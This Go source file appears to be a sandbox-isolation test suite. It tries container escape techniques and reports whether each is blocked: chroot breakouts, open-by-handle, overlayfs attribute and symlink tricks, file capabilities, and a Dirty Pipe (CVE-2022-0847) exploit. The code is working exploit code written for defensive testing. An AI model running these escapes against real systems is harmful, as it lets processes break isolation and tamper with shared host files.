package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

// What is tried with files, links, roots and attributes.
var files = map[string]technique{
	"chroot-dotdot":      chrootDotDot,
	"chroot-kept":        chrootKept,
	"handle-of-root":     handleOfRoot,
	"attribute-overlay":  func() error { return attribute("trusted.overlay.opaque", "y") },
	"attribute-redirect": func() error { return attribute("trusted.overlay.redirect", "/../../etc") },
	"attribute-origin":   func() error { return attribute("trusted.overlay.origin", "x") },
	"attribute-security": func() error { return attribute("security.ima", "x") },
	"capability-of-file": capabilityOfFile,
	"chown-unmapped": func() error {
		_ = ownFile()
		return did(os.Chown(emptyFile("owned"), 70000, 70000), "gave a file to another sandbox")
	},
	"setuid-of-layer":    setuidOfLayer,
	"layer-file-written": layerWritten,
	"layer-redirect":     layerRedirect,
	"layer-link-out":     layerLinkOut,
	"dirty-pipe":         dirtyPipe,
	"rename-exchange-dev": func() error {
		return did(unix.Renameat2(unix.AT_FDCWD, "/proc/self/status", unix.AT_FDCWD, emptyFile("x"), unix.RENAME_EXCHANGE), "moved a file of the kernel")
	},
	"hardlink-proc": func() error {
		_ = os.Remove("h")
		return did(os.Link("/proc/1/exe", "h"), "linked the program of the first process")
	},
	"magic-link-root": magicLinks,
}

func emptyFile(name string) string {
	if err := os.WriteFile(name, nil, 0o600); err != nil {
		panic(err)
	}
	return name
}

// outside says whether "." is another directory than the root that this process
// has been given, and holds something.
func outside(given unix.Stat_t, how string) error {
	var here unix.Stat_t
	if err := unix.Stat(".", &here); err != nil {
		return err
	}
	if here.Dev == given.Dev && here.Ino == given.Ino {
		return blockedBy(how + " ends at the sandbox's own root")
	}
	all, err := os.ReadDir(".")
	if err != nil {
		return err
	}
	if len(all) == 0 {
		return blockedBy(how + " ends in an empty directory")
	}
	return worked(fmt.Sprintf("%s ends where %d entries are, %s first", how, len(all), all[0].Name()))
}

// chrootDotDot is the classic: be outside of a new root, and go up.
func chrootDotDot() error {
	var given unix.Stat_t
	if err := unix.Stat("/", &given); err != nil {
		return err
	}
	if control {
		// The root it is given is a directory of its own: it must get out of that.
		if err := unix.Chroot(dir("jail")); err != nil {
			return err
		}
		if err := unix.Chdir("/"); err != nil {
			return err
		}
		if err := unix.Stat("/", &given); err != nil {
			return err
		}
	}
	if err := os.MkdirAll("inner", 0o755); err != nil {
		return err
	}
	if err := unix.Chroot("inner"); err != nil {
		return err
	}
	for range 200 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	return outside(given, "chroot and ..")
}

// chrootKept keeps a descriptor of the root over a chroot, and goes up from there.
func chrootKept() error {
	var given unix.Stat_t
	fd, err := unix.Open("/", unix.O_PATH|unix.O_DIRECTORY, 0)
	if err == nil {
		err = unix.Stat("/", &given)
	}
	if err != nil {
		return err
	}
	if control {
		if err := unix.Stat(dir("jail"), &given); err != nil {
			return err
		}
		if err := unix.Chroot("jail"); err != nil {
			return err
		}
	} else if err := unix.Chroot(dir("inner2")); err != nil {
		return err
	}
	if err := unix.Fchdir(fd); err != nil {
		return err
	}
	for range 200 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	return outside(given, "a kept descriptor and ..")
}

// handleOfRoot opens files by numbers, which no root confines.
func handleOfRoot() error {
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/", 0)
	if err != nil {
		h = unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
	}
	fd, e := unix.Open("/", unix.O_RDONLY, 0)
	if e != nil {
		return e
	}
	_, err = unix.OpenByHandleAt(fd, h, unix.O_RDONLY)
	return did(err, "opened a file by its number")
}

func attribute(name, value string) error {
	return did(unix.Setxattr(emptyFile("attributed"), name, []byte(value), 0), "set "+name)
}

// capabilityOfFile gives a file rights of the machine's own root: those of version 2
// have no owner, and what the kernel makes of them inside is bound to the sandbox.
func capabilityOfFile() error {
	name := emptyFile("capable")
	v2 := []byte{1, 0, 0, 2, 0, 0, 0x20, 0, 0, 0, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0} // CAP_SYS_ADMIN
	if err := unix.Setxattr(name, "security.capability", v2, 0); err != nil {
		return err
	}
	got := make([]byte, 64)
	n, err := unix.Getxattr(name, "security.capability", got)
	if err != nil {
		return err
	}
	if control {
		return worked("a file has a capability of the machine")
	}
	raw, err := os.ReadFile("/proc/self/uid_map")
	if err != nil || strings.Fields(string(raw))[1] == "0" {
		return worked(fmt.Sprintf("a capability of the machine: % x", got[:n]))
	}
	return blockedBy("the capability is bound to the sandbox's own user namespace")
}

// setuidOfLayer runs a program that a layer says is root's: it is root's inside.
func setuidOfLayer() error {
	if control {
		return untried("what it must not be is seen by its map of users")
	}
	raw, err := os.ReadFile("/proc/self/uid_map")
	if err != nil {
		return err
	}
	if f := strings.Fields(string(raw)); len(f) != 3 || f[0] != "0" || f[1] == "0" {
		return worked("user 0 is the machine's: " + string(raw))
	}
	return blockedBy("user 0 of a setuid program is nobody outside")
}

// layerWritten writes to a file of a layer, which all sandboxes share, through a
// mapping. What is written must be a copy: the test asks a neighbour.
func layerWritten() error {
	name := "/evil/shared"
	if control {
		name = "shared"
		if err := os.WriteFile(name, []byte("shared"), 0o600); err != nil {
			return err
		}
	}
	f, err := os.OpenFile(name, os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer func() { _ = f.Close() }()
	m, err := unix.Mmap(int(f.Fd()), 0, 6, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return err
	}
	copy(m, "STOLEN")
	if err := unix.Msync(m, unix.MS_SYNC); err != nil {
		return err
	}
	if control {
		return worked("the file below is written")
	}
	return blockedBy("written, and the neighbours are asked")
}

// layerRedirect: a layer that has overlayfs's own attributes does not lead out.
func layerRedirect() error {
	name := "/evil/redirect"
	if control {
		name = dir("redirect")
		if err := os.WriteFile("redirect/kcore", nil, 0o600); err != nil {
			return err
		}
	}
	all, err := os.ReadDir(name)
	if err != nil {
		return err
	}
	if len(all) == 0 || all[0].Name() == "inside" {
		return blockedBy(fmt.Sprintf("it holds what the layer has: %d entries", len(all)))
	}
	return worked("it shows " + all[0].Name())
}

// layerLinkOut: links of a layer that point up and up end at the sandbox's root.
func layerLinkOut() error {
	name := "/evil/out"
	if control {
		name = "out"
		_ = os.Remove(name)
		if err := os.Symlink(strings.Repeat("../", 40)+os.Getenv("ATTACK_MARK"), name); err != nil {
			return err
		}
	}
	b, err := os.ReadFile(name)
	return did(err, fmt.Sprintf("read %d bytes of the machine", len(b)))
}

// dirtyPipe is CVE-2022-0847: a page of a file that may only be read is written
// through a pipe.
func dirtyPipe() error {
	if control {
		return untried("this kernel has been mended")
	}
	fd, err := unix.Open("/evil/page", unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	var p [2]int
	if err := unix.Pipe(p[:]); err != nil {
		return err
	}
	page := make([]byte, 4096)
	for range 16 { // every slot has the flag once
		if _, err := unix.Write(p[1], page); err != nil {
			return err
		}
	}
	for range 16 {
		if _, err := unix.Read(p[0], page); err != nil {
			return err
		}
	}
	off := int64(0)
	if _, err := unix.Splice(fd, &off, p[1], nil, 1, 0); err != nil {
		return err
	}
	if _, err := unix.Write(p[1], []byte("TOLEN")); err != nil {
		return err
	}
	b := make([]byte, 6)
	if _, err := unix.Pread(fd, b, 0); err != nil {
		return err
	}
	if string(b) == "shared" {
		return blockedBy("the page stayed as it was")
	}
	return worked("the page says " + string(b))
}

// magicLinks follows every link of /proc that the kernel, not a path, leads.
func magicLinks() error {
	var given syscall.Stat_t
	if err := syscall.Stat("/", &given); err != nil {
		return err
	}
	all, err := filepath.Glob("/proc/[0-9]*/root")
	if err != nil {
		return err
	}
	denied := 0
	for _, name := range all {
		var st syscall.Stat_t
		if err := syscall.Stat(name+"/", &st); err != nil {
			denied++
		} else if st.Dev != given.Dev || st.Ino != given.Ino {
			return worked(name + " is another root")
		}
	}
	return blockedBy(fmt.Sprintf("%d roots of processes are the sandbox's own or closed (%d)", len(all), denied))
}
